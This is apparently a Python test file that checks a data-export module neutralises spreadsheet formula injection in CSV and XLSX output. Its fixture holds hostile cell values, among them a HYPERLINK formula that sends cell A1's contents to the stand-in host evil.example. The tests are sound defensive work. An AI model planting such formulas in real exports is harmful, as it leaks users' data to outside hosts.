"""Data files of a hostile table (tests/browser/test_exports.py: every exhibit's): text that a spreadsheet would run
as a formula is made inert in CSV and stored as text in XLSX; numbers stay numbers."""
import csv
import io
import zipfile

import openpyxl
import pandas as pd

from shegong import catalog, outputs
from shegong.outputs import datafiles


def hostile_exhibit() -> catalog.Exhibit:
    df = pd.DataFrame({
        "名称": ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A2)", "\t=1+1",
               "\r=2", "正常文本"],
        "数值": [-5, 1.5, 0, -1, 2, 3, 4],
    })
    return catalog.Exhibit("test.hostile", {}, None, df, df, title="测试：注入", sources=["测试来源（2024年）"])


def test_csv_makes_formula_cells_inert_and_keeps_numbers():
    rows = list(csv.reader(io.StringIO(outputs.export(hostile_exhibit(), "csv").decode("utf-8-sig"))))
    names = [r[0] for r in rows[1:]]
    assert names[:6] == ["'" + v for v in hostile_exhibit().displayed["名称"][:6]]
    assert names[6] == "正常文本"
    assert [r[1] for r in rows[1:]] == ["-5", "1.5", "0", "-1", "2", "3", "4"]  # negative numbers stay numbers


def test_xlsx_stores_formula_like_text_as_text():
    ex = hostile_exhibit()
    for full in (False, True):
        ws = openpyxl.load_workbook(io.BytesIO(datafiles.to_xlsx(ex, full))).worksheets[0]
        for row, value in enumerate(ex.displayed["名称"], 2):
            cell = ws.cell(row, 1)
            assert cell.data_type == "s" and cell.value == value, (row, cell.data_type, cell.value)
            assert cell.quotePrefix == value.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert ws.cell(2, 2).value == -5 and ws.cell(2, 2).data_type == "n"
    raw = zipfile.ZipFile(io.BytesIO(datafiles.to_xlsx(ex))).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in raw, "a cell was written as a formula"
